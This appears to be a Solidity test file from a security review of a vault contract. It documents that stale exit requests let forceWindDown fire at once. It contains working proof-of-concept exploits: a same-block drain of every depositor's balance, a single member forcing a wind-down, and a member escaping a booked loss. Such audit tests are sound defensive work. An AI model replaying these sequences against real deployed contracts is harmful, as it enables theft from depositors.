// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {VaultFixture} from "../utils/VaultFixture.sol";
import {IVault} from "../../src/interfaces/IVault.sol";
import {Batch} from "../../src/libraries/Batch.sol";

/// @notice Review of issue 11 (rev11): the forced-exit path. An exit request is never cleared when it is
/// served (IM 0): it stays in `_exitRequests` with its original clock, and `forceWindDown` checks only the
/// IM posted *now*. So a request that is older than E and was served (or was made at IM 0 in the first
/// place) turns every later IM increase into an instant wind-down, and the wind-down pays balances out with
/// no delay, no budget and no veto.
contract Rev11ExitRequestTest is VaultFixture {
    uint256 internal constant BUDGET = 10_000 * USD_UNIT;
    uint256 internal constant TOTAL = 600_000 * USD_UNIT;

    function setUp() public override {
        super.setUp();
        _allowOutflow(USD, BUDGET);
        _deposit(alice, USD, 300_000 * USD_UNIT);
        _deposit(bob, USD, 200_000 * USD_UNIT);
        _deposit(carol, USD, 100_000 * USD_UNIT);
    }

    /// FINDING: a compromised quorum with one colluder that pre-positioned a (costless) exit request more than
    /// E ago takes 100 % of the vault in one block, against the documented bound B × (⌈D/P⌉ + 1) = 2 × B.
    function test_FINDING_staleExitRequest_quorumDrainsTheVaultInOneBlock() public {
        // long before the compromise: dave (IM 0, no positions) asks for an exit; it is "served" from the start
        vm.prank(dave);
        vault.requestExit();
        vm.expectRevert(abi.encodeWithSelector(IVault.ExitServed.selector, DAVE));
        vault.forceWindDown(DAVE);
        // honest batches keep landing for more than E
        for (uint256 i; i < 8; ++i) {
            vm.warp(block.timestamp + 1 days);
            _settle(_nextBatch());
        }

        // the compromise, all in one block: every member's cash to dave, and dave's IM raised by 1 base unit
        // (an increase: in force at once, whatever the loosening delay)
        vm.prank(governor);
        vault.setLooseningDelay(30 days);
        Batch.Data memory b = _nextBatch();
        b.transfers = new bytes32[](4);
        b.transfers[0] = _t(ALICE, USD, -300_000e6);
        b.transfers[1] = _t(BOB, USD, -200_000e6);
        b.transfers[2] = _t(CAROL, USD, -100_000e6);
        b.transfers[3] = _t(DAVE, USD, int256(TOTAL));
        b.requirements = _one(_req(DAVE, 1, 0));
        _settle(b);
        uint256 t = block.timestamp;
        vault.forceWindDown(DAVE); // anyone; the request is 8 days old, E = 7 days
        assertTrue(vault.woundDown(), "wound down in the compromise's block");
        vm.prank(dave);
        vault.windDownWithdraw(USD, dave);

        assertEq(block.timestamp, t, "same block: the guardian had no time to react");
        assertEq(usd.balanceOf(dave), TOTAL, "dave holds the whole vault");
        assertGt(usd.balanceOf(dave), 2 * BUDGET, "beyond the trust model's bound B x (ceil(D/P) + 1)");
        assertEq(usd.balanceOf(address(vault)), 0, "nothing left for alice, bob, carol");
        // and the guardian cannot veto anything after the wind-down
    }

    /// FINDING (griefing, honest signers): one member opens the wind-down for everyone. It requests an exit while
    /// flat, waits E, then trades again; the honest engine posts its IM for the new position (the off-chain side
    /// has no notion of exit requests: grep offchain/ for "exit" finds none) and anyone calls forceWindDown the
    /// same second. docs/contracts.md says "a member cannot grief the wind-down open: it can only wait".
    function test_FINDING_staleExitRequest_oneMemberGriefsTheWindDownOpen() public {
        vm.prank(dave);
        vault.requestExit();
        vm.warp(block.timestamp + ESCAPE_PERIOD + 1);
        _settle(_nextBatch()); // batches keep landing: the escape hatch stays shut
        vm.expectRevert();
        vault.triggerWindDown();
        _deposit(dave, USD, 1_000 * USD_UNIT);
        // dave opens a small position: the honest engine posts its IM, as for any member
        Batch.Data memory b = _nextBatch();
        b.requirements = _one(_req(DAVE, 100 * USD_UNIT, 50 * USD_UNIT));
        _settle(b);
        vault.forceWindDown(DAVE);
        assertTrue(vault.woundDown(), "one member wound the whole vault down");
    }

    /// Refused: a fresh exit request, IM raised at once, cannot open the wind-down before E of unpaused time.
    function test_freshExitRequest_waitsE() public {
        vm.prank(dave);
        vault.requestExit();
        Batch.Data memory b = _nextBatch();
        b.requirements = _one(_req(DAVE, 1, 0));
        _settle(b);
        vm.expectRevert(
            abi.encodeWithSelector(IVault.ExitNotOverdue.selector, DAVE, uint64(block.timestamp + ESCAPE_PERIOD))
        );
        vault.forceWindDown(DAVE);
    }

    /// FINDING (honest signers): a member with open positions and an exit request older than E holds a free
    /// option on the wind-down. The engine (offchain/ has no notion of exit requests) keeps its IM posted while
    /// it trades; when the batch booking its 50,000 loss is on its way, it calls forceWindDown first: the batch
    /// reverts WoundDown, and it withdraws its whole pre-loss cash. Bob, who won the 50,000, never gets it.
    /// A guardian pause does not stop forceWindDown or windDownWithdraw either.
    function test_FINDING_staleExitRequest_memberEscapesItsLossByWindingDown() public {
        _deposit(dave, USD, 100_000 * USD_UNIT);
        Batch.Data memory b = _nextBatch();
        b.requirements = _one(_req(DAVE, 20_000 * USD_UNIT, 10_000 * USD_UNIT)); // dave trades
        _settle(b);
        vm.prank(dave);
        vault.requestExit();
        for (uint256 i; i < 8; ++i) {
            vm.warp(block.timestamp + 1 days);
            _settle(_nextBatch());
        }
        b = _nextBatch();
        b.transfers = _two(_t(DAVE, USD, -50_000e6), _t(BOB, USD, 50_000e6));
        IVault.SignerSignature[] memory sigs = _sign(b, _quorum());
        vm.prank(guardian);
        vault.pause(); // even a guardian that sees it coming cannot stop it
        vault.forceWindDown(DAVE);
        vm.prank(dave);
        vault.windDownWithdraw(USD, dave);
        assertEq(usd.balanceOf(dave), 100_000 * USD_UNIT, "dave left with his pre-loss cash");
        vm.prank(governor);
        vault.unpause();
        vm.expectRevert(IVault.WoundDown.selector);
        vault.settle(b, sigs);
        assertEq(vault.balanceOf(BOB, USD), 200_000 * USD_UNIT, "bob's gain never booked");
    }
}
